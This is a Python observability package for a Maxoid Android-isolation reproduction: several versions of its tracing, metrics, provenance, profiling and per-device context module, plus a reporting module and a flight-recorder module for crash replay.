(:mod:`repro.android.am`, :mod:`repro.android.zygote`), the Maxoid core
(:mod:`repro.core.cow`, :mod:`repro.core.volatile`) and the SQL engine
(:mod:`repro.minisql.engine`) all gate on the single ``OBS.enabled``
attribute, so the disabled fast path costs one attribute load and a
branch per operation and nothing else.

Span taxonomy (the prefix is the layer):

- ``am.*``      — Activity Manager: ``am.start_activity``, ``am.broadcast``
- ``zygote.*``  — process creation: ``zygote.fork``
- ``binder.*``  — IPC: ``binder.transact``
- ``vfs.*``     — syscall layer: ``vfs.open``, ``vfs.read``, ``vfs.write``
- ``aufs.*``    — union fs: ``aufs.open``, ``aufs.copy_up``
- ``cow.*``     — SQLite COW proxy: ``cow.query``/``insert``/``update``/
  ``delete``/``commit``/``discard``
- ``sql.*``     — mini SQL engine: ``sql.execute``
- ``vol.*``     — volatile-state management: ``vol.commit``

Typical use::

    from repro.obs import OBS

    with OBS.capture() as obs:
        device.launch_as_delegate(...)
        trees = obs.tracer.trees()
        delta = obs.metrics.snapshot()  # capture() starts from zero
"""

from __future__ import annotations

from contextlib import contextmanager
from typing import Iterator, Optional

from repro.obs.metrics import (
    DEFAULT_BYTE_BUCKETS,
    DEFAULT_MS_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    HistogramSnapshot,
    MetricError,
    Metrics,
    MetricsSnapshot,
    diff,
)
from repro.obs.report import (
    breakdown,
    counters_by_layer,
    format_breakdown,
    layer_self_times,
    span_time,
)
from repro.obs.sweep import (
    parse_delegate_ctx,
    priv_owner,
    spans_with_inherited_ctx,
    sweep,
)
from repro.obs.trace import (
    JsonlSink,
    RingBufferSink,
    Span,
    SpanNode,
    Tracer,
    build_trees,
)

__all__ = [
    "sweep",
    "spans_with_inherited_ctx",
    "parse_delegate_ctx",
    "priv_owner",
    "OBS",
    "Observability",
    "Tracer",
    "Span",
    "SpanNode",
    "RingBufferSink",
    "JsonlSink",
    "build_trees",
    "Metrics",
    "MetricsSnapshot",
    "MetricError",
    "Counter",
    "Gauge",
    "Histogram",
    "HistogramSnapshot",
    "diff",
    "layer_self_times",
    "span_time",
    "breakdown",
    "format_breakdown",
    "counters_by_layer",
    "DEFAULT_MS_BUCKETS",
    "DEFAULT_BYTE_BUCKETS",
]


class Observability:
    """The tracer + metrics pair behind one enable switch."""

    def __init__(self) -> None:
        self.tracer = Tracer()
        self.metrics = Metrics()
        self.enabled = False

    def enable(self, jsonl_path: Optional[str] = None, ring_capacity: int = 8192) -> None:
        """Turn instrumentation on (idempotent)."""
        self.tracer.enable(jsonl_path=jsonl_path, capacity=ring_capacity)
        self.enabled = True

    def disable(self) -> None:
        """Turn instrumentation off; closes any JSONL sink."""
        self.tracer.disable()
        self.enabled = False

    def reset(self) -> None:
        """Drop recorded spans and all metric values."""
        self.tracer.clear()
        self.metrics.reset()

    @contextmanager
    def capture(
        self, jsonl_path: Optional[str] = None, ring_capacity: int = 8192
    ) -> Iterator["Observability"]:
        """Enable from a clean slate for the duration of a ``with`` block.

        Restores the previous enabled/disabled state afterwards, so tests
        and benchmarks can nest captures without leaking global state.
        """
        was_enabled = self.enabled
        self.reset()
        self.enable(jsonl_path=jsonl_path, ring_capacity=ring_capacity)
        try:
            yield self
        finally:
            self.disable()
            if was_enabled:
                self.enable()

    # -- conveniences over the pair -------------------------------------

    def spans(self):
        """Finished spans in the ring buffer."""
        return self.tracer.finished()

    def trees(self):
        """Finished spans as reconstructed trees."""
        return self.tracer.trees()


#: The process-wide observability instance every instrumented module uses.
OBS = Observability()
