"""Cross-layer observability for the Maxoid reproduction.

One process-wide :class:`Observability` instance (``OBS``) owns the
:class:`~repro.obs.trace.Tracer` and the
:class:`~repro.obs.metrics.Metrics` registry. Instrumented hot paths in
the kernel (:mod:`repro.kernel.syscall`, :mod:`repro.kernel.aufs`,
:mod:`repro.kernel.binder`, :mod:`repro.kernel.mounts`), the framework
(:mod:`repro.android.am`, :mod:`repro.android.zygote`), the Maxoid core
(:mod:`repro.core.cow`, :mod:`repro.core.volatile`) and the SQL engine
(:mod:`repro.minisql.engine`) all gate on the single ``OBS.enabled``
attribute, so the disabled fast path costs one attribute load and a
branch per operation and nothing else.

Span taxonomy (the prefix is the layer):

- ``am.*``      — Activity Manager: ``am.start_activity``, ``am.broadcast``
- ``zygote.*``  — process creation: ``zygote.fork``
- ``binder.*``  — IPC: ``binder.transact``
- ``vfs.*``     — syscall layer: ``vfs.open``, ``vfs.read``, ``vfs.write``
- ``aufs.*``    — union fs: ``aufs.open``, ``aufs.copy_up``
- ``cow.*``     — SQLite COW proxy: ``cow.query``/``insert``/``update``/
  ``delete``/``commit``/``discard``
- ``sql.*``     — mini SQL engine: ``sql.execute``
- ``vol.*``     — volatile-state management: ``vol.commit``
- ``prov.*``    — provenance ledger (needs ``OBS.prov``): ``prov.read``,
  ``prov.write``, ``prov.copy_up``, ``prov.commit_file``,
  ``prov.row_write``, ``prov.row_commit``, ``prov.clip_set``,
  ``prov.clip_get``, ``prov.fork``, ``prov.intent_flow``

Provenance tracking (:mod:`repro.obs.provenance`) sits behind its own
``OBS.prov`` sub-switch layered on top of ``OBS.enabled``: with it off,
every hot path pays the same single attribute load as before. With it
armed, reads join object labels into the reading process's taint set,
writes stamp the destination, and the streaming
:class:`~repro.obs.monitor.SecurityMonitor` can attach S1-S4 checks to
each closing span with :meth:`~repro.obs.provenance.ProvenanceLedger
.explain` lineage.

Performance profiling (:mod:`repro.obs.profile`) follows the same
sub-switch pattern behind ``OBS.profile``: armed, a tracer listener folds
every closing span into per-span-name latency histograms
(``lat.vfs.open``, ...) with interpolated p50/p95/p99, and
:func:`~repro.obs.profile.critical_path` attributes one invocation's wall
time across layers. :mod:`repro.obs.export` turns the same span stream
into Chrome/Perfetto trace JSON, folded flamegraph stacks, or a
speedscope profile.

Typical use::

    from repro.obs import OBS

    with OBS.capture(prov=True) as obs:
        device.launch_as_delegate(...)
        trees = obs.tracer.trees()
        delta = obs.metrics.snapshot()  # capture() starts from zero
        print(obs.provenance.explain("/storage/sdcard/out.pdf").render())
"""

from __future__ import annotations

from contextlib import contextmanager
from typing import Iterator, Optional

from repro.obs.metrics import (
    DEFAULT_BYTE_BUCKETS,
    DEFAULT_MS_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    HistogramSnapshot,
    MetricError,
    Metrics,
    MetricsSnapshot,
    diff,
)
from repro.obs.report import (
    breakdown,
    counters_by_layer,
    format_breakdown,
    layer_self_times,
    span_time,
)
from repro.obs.export import (
    to_chrome_trace,
    to_folded_stacks,
    to_speedscope,
    write_chrome_trace,
    write_folded_stacks,
    write_speedscope,
)
from repro.obs.monitor import SecurityMonitor
from repro.obs.profile import (
    SPAN_LATENCY_PREFIX,
    CriticalPathReport,
    CriticalPathStep,
    ProfileRecorder,
    critical_path,
    critical_paths,
    latency_summary,
)
from repro.obs.provenance import Label, Lineage, ProvenanceLedger
from repro.obs.sweep import (
    Violation,
    evaluate_span,
    parse_delegate_ctx,
    priv_owner,
    spans_with_inherited_ctx,
    sweep,
    sweep_violations,
)
from repro.obs.trace import (
    JsonlSink,
    RingBufferSink,
    Span,
    SpanNode,
    Tracer,
    build_trees,
)

__all__ = [
    "sweep",
    "sweep_violations",
    "evaluate_span",
    "spans_with_inherited_ctx",
    "parse_delegate_ctx",
    "priv_owner",
    "Violation",
    "Label",
    "Lineage",
    "SPAN_LATENCY_PREFIX",
    "ProfileRecorder",
    "CriticalPathReport",
    "CriticalPathStep",
    "critical_path",
    "critical_paths",
    "latency_summary",
    "to_chrome_trace",
    "to_folded_stacks",
    "to_speedscope",
    "write_chrome_trace",
    "write_folded_stacks",
    "write_speedscope",
    "ProvenanceLedger",
    "SecurityMonitor",
    "OBS",
    "Observability",
    "Tracer",
    "Span",
    "SpanNode",
    "RingBufferSink",
    "JsonlSink",
    "build_trees",
    "Metrics",
    "MetricsSnapshot",
    "MetricError",
    "Counter",
    "Gauge",
    "Histogram",
    "HistogramSnapshot",
    "diff",
    "layer_self_times",
    "span_time",
    "breakdown",
    "format_breakdown",
    "counters_by_layer",
    "DEFAULT_MS_BUCKETS",
    "DEFAULT_BYTE_BUCKETS",
]


class Observability:
    """The tracer + metrics pair behind one enable switch."""

    def __init__(self) -> None:
        self.tracer = Tracer()
        self.metrics = Metrics()
        self.provenance = ProvenanceLedger(tracer=self.tracer)
        self.profiler = ProfileRecorder(self.metrics)
        self.enabled = False
        #: Sub-switch for the provenance ledger; hot paths check this one
        #: attribute before building any label machinery.
        self.prov = False
        #: Sub-switch for per-span-name latency histograms. Armed, a
        #: tracer listener observes every closing span's duration; off,
        #: no listener is registered and span close runs the seed path.
        self.profile = False
        self._jsonl_path: Optional[str] = None
        self._ring_capacity = 8192

    def enable(self, jsonl_path: Optional[str] = None, ring_capacity: int = 8192) -> None:
        """Turn instrumentation on (idempotent)."""
        self.tracer.enable(jsonl_path=jsonl_path, capacity=ring_capacity)
        self.enabled = True
        self._jsonl_path = jsonl_path
        self._ring_capacity = ring_capacity

    def enable_prov(self) -> None:
        """Arm provenance tracking (implies :meth:`enable` if needed)."""
        if not self.enabled:
            self.enable()
        self.prov = True

    def enable_profile(self) -> None:
        """Arm latency profiling (implies :meth:`enable` if needed)."""
        if not self.enabled:
            self.enable()
        self.profile = True
        self.tracer.add_listener(self.profiler.on_span)

    def disable_profile(self) -> None:
        """Disarm latency profiling; existing ``lat.*`` histograms stay."""
        self.profile = False
        self.tracer.remove_listener(self.profiler.on_span)

    def disable(self) -> None:
        """Turn instrumentation off; closes any JSONL sink."""
        self.disable_profile()
        self.tracer.disable()
        self.enabled = False
        self.prov = False

    def reset(self) -> None:
        """Drop recorded spans, all metric values, and the taint ledger."""
        self.tracer.clear()
        self.metrics.reset()
        self.provenance.reset()

    @contextmanager
    def capture(
        self,
        jsonl_path: Optional[str] = None,
        ring_capacity: int = 8192,
        prov: bool = False,
        profile: bool = False,
    ) -> Iterator["Observability"]:
        """Enable from a clean slate for the duration of a ``with`` block.

        Restores the previous configuration afterwards — including a
        JSONL sink path or custom ring capacity the instance was enabled
        with before — so tests and benchmarks can nest captures without
        leaking or clobbering global state. ``prov=True`` additionally
        arms the provenance ledger for the block; ``profile=True`` arms
        the per-span latency histograms.

        Listeners attached *inside* the block (a SecurityMonitor, say)
        are removed on exit even when the block raises mid-span, and any
        provenance actor scopes the aborted op left pushed are cleared —
        one capture cannot leak monitor callbacks or actor attribution
        into the next.
        """
        was_enabled = self.enabled
        was_prov = self.prov
        was_profile = self.profile
        prior_jsonl = self._jsonl_path
        prior_capacity = self._ring_capacity
        prior_listeners = list(self.tracer._listeners)
        self.reset()
        self.enable(jsonl_path=jsonl_path, ring_capacity=ring_capacity)
        self.prov = prov
        if profile:
            self.enable_profile()
        else:
            self.disable_profile()
        try:
            yield self
        finally:
            self.disable()
            self.tracer._listeners[:] = [
                listener
                for listener in self.tracer._listeners
                if listener in prior_listeners
            ]
            self.provenance.clear_actors()
            if was_enabled:
                self.enable(jsonl_path=prior_jsonl, ring_capacity=prior_capacity)
                self.prov = was_prov
                if was_profile:
                    self.enable_profile()

    # -- conveniences over the pair -------------------------------------

    def spans(self):
        """Finished spans in the ring buffer."""
        return self.tracer.finished()

    def trees(self):
        """Finished spans as reconstructed trees."""
        return self.tracer.trees()


#: The process-wide observability instance every instrumented module uses.
OBS = Observability()
