"""Cross-layer observability for the Maxoid reproduction.

Observability is **per device**: each :class:`ObsContext` owns a
:class:`~repro.obs.trace.Tracer`, a :class:`~repro.obs.metrics.Metrics`
registry, a provenance ledger and a profiler, all behind one ``enabled``
switch. A :class:`~repro.core.device.Device` owns its context
(``device.obs``) and hands it to everything it builds — processes, the
binder driver, mount namespaces, the Aufs branches, the COW proxies, the
SQL engines — so every instrumented layer resolves the gating attribute
through the device/process it is acting *for*. Two devices therefore
record into disjoint tracers and registries; nothing telemetry-shaped is
process-global any more.

``OBS`` remains as the **default context**: objects constructed without a
device (bare ``Device()``, unit-test fixtures, the workload harness)
attach to it, so existing single-device call sites and ``OBS.capture()``
keep working unchanged. The disabled fast path is preserved by
construction — every hot-path hook is still a single attribute load plus
a branch (``if self.obs.enabled:``), and nothing else runs when it is
off.

Span taxonomy (the prefix is the layer):

- ``am.*``      — Activity Manager: ``am.start_activity``, ``am.broadcast``
- ``zygote.*``  — process creation: ``zygote.fork``
- ``binder.*``  — IPC: ``binder.transact``
- ``vfs.*``     — syscall layer: ``vfs.open``, ``vfs.read``, ``vfs.write``
- ``aufs.*``    — union fs: ``aufs.open``, ``aufs.copy_up``
- ``cow.*``     — SQLite COW proxy: ``cow.query``/``insert``/``update``/
  ``delete``/``commit``/``discard``
- ``sql.*``     — mini SQL engine: ``sql.execute``
- ``vol.*``     — volatile-state management: ``vol.commit``
- ``prov.*``    — provenance ledger (needs ``ctx.prov``): ``prov.read``,
  ``prov.write``, ``prov.copy_up``, ``prov.commit_file``,
  ``prov.row_write``, ``prov.row_commit``, ``prov.clip_set``,
  ``prov.clip_get``, ``prov.fork``, ``prov.intent_flow``

Every span is stamped with its context's ``device_id`` (and carries its
``trace_id``), so interleaved multi-device span streams separate cleanly.
Deterministic seeded **head sampling** (``enable(sample_rate=...,
sample_seed=...)``) keeps always-on fleet tracing bounded: the keep/drop
decision is a seeded hash of the trace-root ordinal, so the same seed
reproduces the same sample.

Provenance tracking (:mod:`repro.obs.provenance`) sits behind a per-
context ``prov`` sub-switch layered on top of ``enabled``; performance
profiling (:mod:`repro.obs.profile`) behind ``profile``. Both follow the
same one-attribute-load contract.

Fleet aggregation (:mod:`repro.obs.fleet`) re-merges per-device contexts:
:class:`~repro.obs.fleet.FleetTelemetry` sums counter snapshots, merges
same-boundary histograms, emits device-labeled Prometheus exposition
under a cardinality cap, interleaves per-device AuditLog violations into
one totally ordered feed, and renders a ``fleet_health()`` report.

Typical single-device use (unchanged)::

    from repro.obs import OBS

    with OBS.capture(prov=True) as obs:
        device.launch_as_delegate(...)
        trees = obs.tracer.trees()
        delta = obs.metrics.snapshot()  # capture() starts from zero

Fleet use::

    from repro import Device
    from repro.obs import ObsContext
    from repro.obs.fleet import FleetTelemetry

    fleet = FleetTelemetry()
    devices = [Device(device_id=f"dev{i}") for i in range(8)]
    for device in devices:
        device.obs.enable(sample_rate=0.1, sample_seed=42)
        fleet.register_device(device)
    ...
    print(fleet.to_prometheus_text())   # {device="dev3"} series
    print(fleet.fleet_health().render())
"""

from __future__ import annotations

import weakref
from contextlib import contextmanager
from typing import Iterator, List, Optional

from repro.obs.metrics import (
    DEFAULT_BYTE_BUCKETS,
    DEFAULT_MS_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    HistogramSnapshot,
    MetricError,
    Metrics,
    MetricsSnapshot,
    diff,
    escape_label_value,
    format_labels,
    render_prometheus,
)
from repro.obs.report import (
    breakdown,
    counters_by_layer,
    format_breakdown,
    layer_self_times,
    span_time,
)
from repro.obs.export import (
    to_chrome_trace,
    to_folded_stacks,
    to_speedscope,
    write_chrome_trace,
    write_folded_stacks,
    write_speedscope,
)
from repro.obs.monitor import SecurityMonitor
from repro.obs.profile import (
    SPAN_LATENCY_PREFIX,
    CriticalPathReport,
    CriticalPathStep,
    ProfileRecorder,
    critical_path,
    critical_paths,
    latency_summary,
)
from repro.obs.provenance import Label, Lineage, ProvenanceLedger
from repro.obs.recorder import AnchorReached, BlackBox, Event, FlightRecorder
from repro.obs.sweep import (
    Violation,
    evaluate_span,
    parse_delegate_ctx,
    priv_owner,
    spans_with_inherited_ctx,
    sweep,
    sweep_violations,
)
from repro.obs.trace import (
    JsonlSink,
    RingBufferSink,
    Span,
    SpanNode,
    Tracer,
    build_trees,
)

__all__ = [
    "sweep",
    "sweep_violations",
    "evaluate_span",
    "spans_with_inherited_ctx",
    "parse_delegate_ctx",
    "priv_owner",
    "Violation",
    "Label",
    "Lineage",
    "SPAN_LATENCY_PREFIX",
    "ProfileRecorder",
    "CriticalPathReport",
    "CriticalPathStep",
    "critical_path",
    "critical_paths",
    "latency_summary",
    "to_chrome_trace",
    "to_folded_stacks",
    "to_speedscope",
    "write_chrome_trace",
    "write_folded_stacks",
    "write_speedscope",
    "ProvenanceLedger",
    "AnchorReached",
    "BlackBox",
    "Event",
    "FlightRecorder",
    "SecurityMonitor",
    "OBS",
    "ObsContext",
    "Observability",
    "obs_contexts",
    "Tracer",
    "Span",
    "SpanNode",
    "RingBufferSink",
    "JsonlSink",
    "build_trees",
    "Metrics",
    "MetricsSnapshot",
    "MetricError",
    "Counter",
    "Gauge",
    "Histogram",
    "HistogramSnapshot",
    "diff",
    "escape_label_value",
    "format_labels",
    "render_prometheus",
    "layer_self_times",
    "span_time",
    "breakdown",
    "format_breakdown",
    "counters_by_layer",
    "DEFAULT_MS_BUCKETS",
    "DEFAULT_BYTE_BUCKETS",
]


#: Live contexts, weakly held. The deterministic scheduler swaps every
#: context's span/actor stacks per task so interleaved flows from several
#: devices cannot corrupt each other's attribution.
_CONTEXTS: "weakref.WeakSet[ObsContext]" = weakref.WeakSet()


def obs_contexts() -> List["ObsContext"]:
    """All live observability contexts (the default ``OBS`` included)."""
    return list(_CONTEXTS)


class ObsContext:
    """One device's tracer + metrics pair behind one enable switch."""

    def __init__(self, device_id: str = "device0") -> None:
        self.device_id = device_id
        self.tracer = Tracer(device_id=device_id)
        self.metrics = Metrics()
        self.provenance = ProvenanceLedger(tracer=self.tracer)
        self.profiler = ProfileRecorder(self.metrics)
        self.enabled = False
        #: Sub-switch for the provenance ledger; hot paths check this one
        #: attribute before building any label machinery.
        self.prov = False
        #: Sub-switch for per-span-name latency histograms. Armed, a
        #: tracer listener observes every closing span's duration; off,
        #: no listener is registered and span close runs the seed path.
        self.profile = False
        #: The device's flight recorder (:mod:`repro.obs.recorder`). A
        #: disarmed recorder holds no listeners anywhere, so it adds
        #: nothing to any hot path until ``recorder.arm()``.
        self.recorder = FlightRecorder(self)
        #: Context-owned head-sampling policy. These mirror the tracer's
        #: internals so :meth:`capture` can save/restore them without
        #: reaching into ``Tracer`` privates.
        self.sample_rate = 1.0
        self.sample_seed = 0
        self._jsonl_path: Optional[str] = None
        self._ring_capacity = 8192
        _CONTEXTS.add(self)

    def enable(
        self,
        jsonl_path: Optional[str] = None,
        ring_capacity: int = 8192,
        sample_rate: Optional[float] = None,
        sample_seed: int = 0,
    ) -> None:
        """Turn instrumentation on (idempotent).

        ``sample_rate`` < 1 arms deterministic seeded head sampling: the
        n-th trace root under a given ``sample_seed`` is kept iff a hash
        of ``(seed, n)`` lands under the rate, so always-on fleet tracing
        stays bounded and reproducible.
        """
        self.tracer.enable(jsonl_path=jsonl_path, capacity=ring_capacity)
        if sample_rate is not None:
            self.set_sampling(rate=sample_rate, seed=sample_seed)
        self.enabled = True
        self._jsonl_path = jsonl_path
        self._ring_capacity = ring_capacity

    def set_sampling(self, rate: float, seed: int = 0) -> None:
        """Arm the tracer's seeded head sampling and remember the policy
        on the context (so nested captures can restore it)."""
        self.tracer.set_sampling(rate=rate, seed=seed)
        self.sample_rate = rate
        self.sample_seed = seed

    def enable_prov(self) -> None:
        """Arm provenance tracking (implies :meth:`enable` if needed)."""
        if not self.enabled:
            self.enable()
        self.prov = True

    def enable_profile(self) -> None:
        """Arm latency profiling (implies :meth:`enable` if needed)."""
        if not self.enabled:
            self.enable()
        self.profile = True
        self.tracer.add_listener(self.profiler.on_span)

    def disable_profile(self) -> None:
        """Disarm latency profiling; existing ``lat.*`` histograms stay."""
        self.profile = False
        self.tracer.remove_listener(self.profiler.on_span)

    def disable(self) -> None:
        """Turn instrumentation off; closes any JSONL sink."""
        self.disable_profile()
        self.tracer.disable()
        self.enabled = False
        self.prov = False

    def reset(self) -> None:
        """Drop recorded spans, all metric values, and the taint ledger."""
        self.tracer.clear()
        self.metrics.reset()
        self.provenance.reset()

    @contextmanager
    def capture(
        self,
        jsonl_path: Optional[str] = None,
        ring_capacity: int = 8192,
        prov: bool = False,
        profile: bool = False,
        sample_rate: Optional[float] = None,
        sample_seed: int = 0,
    ) -> Iterator["ObsContext"]:
        """Enable from a clean slate for the duration of a ``with`` block.

        Restores the previous configuration afterwards — including a
        JSONL sink path, custom ring capacity, or sampling policy the
        context was enabled with before — so tests and benchmarks can
        nest captures without leaking or clobbering shared state.
        ``prov=True`` additionally arms the provenance ledger for the
        block; ``profile=True`` arms the per-span latency histograms;
        ``sample_rate`` arms seeded head sampling for the block.

        Listeners attached *inside* the block (a SecurityMonitor, say)
        are removed on exit even when the block raises mid-span, and any
        provenance actor scopes the aborted op left pushed are cleared —
        one capture cannot leak monitor callbacks or actor attribution
        into the next. The sampling policy and the flight recorder's
        arm-state are saved and restored the same way: a recorder armed
        (or re-armed) inside the block is disarmed on exit, and an outer
        arm-state is re-armed with its original configuration, so nested
        captures cannot leak recording config into the enclosing scope.
        """
        was_enabled = self.enabled
        was_prov = self.prov
        was_profile = self.profile
        prior_jsonl = self._jsonl_path
        prior_capacity = self._ring_capacity
        prior_listeners = list(self.tracer._listeners)
        prior_rate = self.sample_rate
        prior_seed = self.sample_seed
        was_recording = self.recorder.armed
        prior_arm = self.recorder.arm_config if was_recording else None
        self.reset()
        # A capture is a clean slate: full sampling unless asked otherwise
        # (the context's own policy is restored on exit).
        self.enable(
            jsonl_path=jsonl_path,
            ring_capacity=ring_capacity,
            sample_rate=1.0 if sample_rate is None else sample_rate,
            sample_seed=sample_seed,
        )
        self.prov = prov
        if profile:
            self.enable_profile()
        else:
            self.disable_profile()
        try:
            yield self
        finally:
            self.disable()
            # Restore the recorder arm-state only when the block changed
            # it: a block that leaves the recorder alone keeps its ring
            # intact (re-arming resets it), while one that arms or
            # re-arms the recorder cannot leak that config outward.
            arm_now = self.recorder.arm_config if self.recorder.armed else None
            arm_then = prior_arm if was_recording else None
            if self.recorder.armed != was_recording or arm_now != arm_then:
                self.recorder.disarm()
                if was_recording and prior_arm is not None:
                    self.recorder.arm(**prior_arm)
            self.tracer._listeners[:] = [
                listener
                for listener in self.tracer._listeners
                if listener in prior_listeners
            ]
            self.provenance.clear_actors()
            self.set_sampling(rate=prior_rate, seed=prior_seed)
            if was_enabled:
                self.enable(jsonl_path=prior_jsonl, ring_capacity=prior_capacity)
                self.prov = was_prov
                if was_profile:
                    self.enable_profile()

    # -- conveniences over the pair -------------------------------------

    def spans(self):
        """Finished spans in the ring buffer."""
        return self.tracer.finished()

    def trees(self):
        """Finished spans as reconstructed trees."""
        return self.tracer.trees()

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        state = "on" if self.enabled else "off"
        return f"<ObsContext {self.device_id} ({state})>"


#: Backwards-compatible name from the singleton era.
Observability = ObsContext

#: The default observability context. Devices built without an explicit
#: context — and every object constructed outside a device — attach here,
#: so pre-fleet call sites keep working unchanged.
OBS = ObsContext()
