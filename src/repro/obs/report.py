"""Per-layer breakdowns over finished spans and metric deltas.

This is the reporting substrate the benchmarks use: given the spans of a
trace (e.g. one delegate launch), attribute wall-clock *self time* to each
taxonomy layer (``am``, ``zygote``, ``binder``, ``vfs``, ``aufs``,
``cow``, ``sql``, ``vol``, ``mounts``) so a row can answer questions like
"copy-up time as a percentage of delegate launch".

Self time is a span's duration minus the duration of its direct children,
so the totals over a tree sum to the root's duration (no double counting
across layers of the same synchronous call chain).
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional

from repro.obs.metrics import MetricsSnapshot
from repro.obs.trace import Span, SpanNode, build_trees

__all__ = [
    "layer_self_times",
    "span_time",
    "breakdown",
    "format_breakdown",
    "counters_by_layer",
]


def layer_self_times(spans: Iterable[Span]) -> Dict[str, float]:
    """Self time (ms) attributed to each taxonomy layer across ``spans``."""
    totals: Dict[str, float] = {}
    for root in build_trees(list(spans)):
        for node in root.walk():
            child_ms = sum(child.span.duration_ms for child in node.children)
            self_ms = max(node.span.duration_ms - child_ms, 0.0)
            layer = node.span.layer
            totals[layer] = totals.get(layer, 0.0) + self_ms
    return totals


def span_time(spans: Iterable[Span], name: str) -> float:
    """Total duration (ms) of all spans named ``name``.

    Durations of nested same-named spans both count; use for leaf-ish
    operations (``aufs.copy_up``, ``sql.execute``) where nesting of the
    same name does not occur.
    """
    return sum(span.duration_ms for span in spans if span.name == name)


def breakdown(spans: Iterable[Span]) -> Dict[str, float]:
    """Layer self-times as *fractions* of the total traced time."""
    times = layer_self_times(spans)
    total = sum(times.values())
    if total <= 0.0:
        return {layer: 0.0 for layer in times}
    return {layer: ms / total for layer, ms in times.items()}


def format_breakdown(spans: Iterable[Span], title: str = "") -> str:
    """A small text table of per-layer self time (for benchmark output)."""
    times = layer_self_times(spans)
    total = sum(times.values())
    lines = [f"-- per-layer breakdown{': ' + title if title else ''} --"]
    for layer in sorted(times, key=times.get, reverse=True):
        ms = times[layer]
        pct = (ms / total * 100.0) if total > 0 else 0.0
        lines.append(f"  {layer:<8} {ms:9.3f} ms  {pct:5.1f}%")
    lines.append(f"  {'total':<8} {total:9.3f} ms")
    return "\n".join(lines)


def counters_by_layer(delta: MetricsSnapshot) -> Dict[str, Dict[str, int]]:
    """Group a snapshot diff's counters by taxonomy layer prefix."""
    grouped: Dict[str, Dict[str, int]] = {}
    for name, value in delta.counters.items():
        layer = name.split(".", 1)[0]
        grouped.setdefault(layer, {})[name] = value
    return grouped
