"""The flight recorder: one causal event ring per device, sealed on crash.

Every verification plane already emits evidence — spans from the tracer,
decisions from the deterministic scheduler, consults from the fault
plane, lineage from the provenance ledger (as ``prov.*`` spans), lock
grants from the reactor's RWLocks, and audit entries from the device's
:class:`~repro.core.audit.AuditLog`. This module merges those streams
into one **bounded ring of causally ordered** :class:`Event` records per
device: a monotonic per-device ``seq`` plus the scheduler's virtual
clock, fed by listener taps that cost *nothing* until :meth:`FlightRecorder.arm`
attaches them (the taps are plain listeners; a disarmed recorder leaves
every plane's hot path untouched — the same zero-cost-when-off contract
as ``OBS``/``FAULTS``/``SCHED``).

When something goes wrong the recorder seals a **black box**: an
immutable :class:`BlackBox` snapshot of the ring plus run metadata
(seeds, schedule digest, git sha, armed fault policies). Sealing is
trigger-driven:

==================  ====================================================
trigger             fired by
==================  ====================================================
``violation``       the audit tap, on an S1-S4 ``violation`` entry
``delegate-timeout``the audit tap, on a binder ``timeout`` entry
``deadlock``        the scheduler's trigger hook, before ``DeadlockError``
``crash-recovery``  ``Device.recover()``, after journal replay
``counterexample``  the fuzz drivers, when packaging a finding
==================  ====================================================

Because every event line is **counter-free** (no pids, no wall-clock —
only seq, virtual clock, plane, name, and a deterministic detail
string), a black box replays byte-identically: re-running the recorded
scenario under ``SCHED.replay`` with ``halt_at=<anchor seq>`` reproduces
the exact event prefix and raises :class:`AnchorReached` at the anchor,
with the live device still standing for inspection — the
**replay-to-anchor** postmortem (see :mod:`repro.fuzz.driver` /
:mod:`repro.fuzz.interleave` and ``python -m repro.obs.timeline``).
"""

from __future__ import annotations

import hashlib
from typing import Any, Dict, List, Optional, Tuple

__all__ = [
    "AnchorReached",
    "BlackBox",
    "Event",
    "FlightRecorder",
    "SEAL_TRIGGERS",
]

#: Every trigger a dump may carry (the trigger matrix above).
SEAL_TRIGGERS = (
    "violation",
    "delegate-timeout",
    "deadlock",
    "crash-recovery",
    "counterexample",
    "manual",
)


class AnchorReached(BaseException):
    """Replay hit the anchor event: halt with the device inspectable.

    A :class:`BaseException` so no simulation-level ``except Exception``
    can swallow the halt on its way out of the op that reproduced the
    anchor; only the replay driver catches it.
    """

    def __init__(self, event: "Event") -> None:
        super().__init__(
            f"replay reached anchor event #{event.seq} "
            f"({event.plane}/{event.name} @ vclock {event.vclock:g})"
        )
        self.event = event


class Event:
    """One causally ordered record in the flight-recorder ring.

    ``line()`` is the canonical counter-free form — it enters the events
    digest and therefore the byte-identity contract, so it may only
    contain the per-device ``seq``, the virtual clock, the plane, the
    event name, and a deterministic detail string. ``attrs`` carries the
    full (possibly counter-bearing) context for humans and is excluded
    from the digest.
    """

    __slots__ = ("seq", "vclock", "plane", "name", "detail", "attrs", "device_id")

    def __init__(
        self,
        seq: int,
        vclock: float,
        plane: str,
        name: str,
        detail: str = "",
        attrs: Optional[Dict[str, Any]] = None,
        device_id: str = "device0",
    ) -> None:
        self.seq = seq
        self.vclock = vclock
        self.plane = plane
        self.name = name
        self.detail = detail
        self.attrs = attrs or {}
        self.device_id = device_id

    def line(self) -> str:
        """The canonical counter-free form (digest input)."""
        return f"{self.seq} {self.vclock:g} {self.plane} {self.name} {self.detail}"

    def render(self) -> str:
        return f"[{self.device_id}:{self.seq:05d} t={self.vclock:g}] {self.plane:6s} {self.name} {self.detail}"

    def to_dict(self) -> Dict[str, Any]:
        return {
            "seq": self.seq,
            "vclock": self.vclock,
            "plane": self.plane,
            "name": self.name,
            "detail": self.detail,
            "attrs": dict(self.attrs),
            "device_id": self.device_id,
        }

    @classmethod
    def from_dict(cls, data: Dict[str, Any]) -> "Event":
        return cls(
            seq=int(data["seq"]),
            vclock=float(data["vclock"]),
            plane=str(data["plane"]),
            name=str(data["name"]),
            detail=str(data.get("detail", "")),
            attrs=dict(data.get("attrs", {})),
            device_id=str(data.get("device_id", "device0")),
        )

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return f"<Event #{self.seq} {self.plane}/{self.name}>"


def events_digest(events: Tuple[Event, ...], upto: Optional[int] = None) -> str:
    """sha256 over the canonical lines of ``events`` (optionally only the
    prefix with ``seq <= upto``) — the byte-identity half of the
    replay-to-anchor acceptance check."""
    digest = hashlib.sha256()
    for event in events:
        if upto is not None and event.seq > upto:
            break
        digest.update(event.line().encode())
        digest.update(b"\n")
    return digest.hexdigest()


class BlackBox:
    """One sealed flight-recorder dump: events + run metadata."""

    def __init__(
        self,
        trigger: str,
        device_id: str,
        events: Tuple[Event, ...],
        metadata: Dict[str, Any],
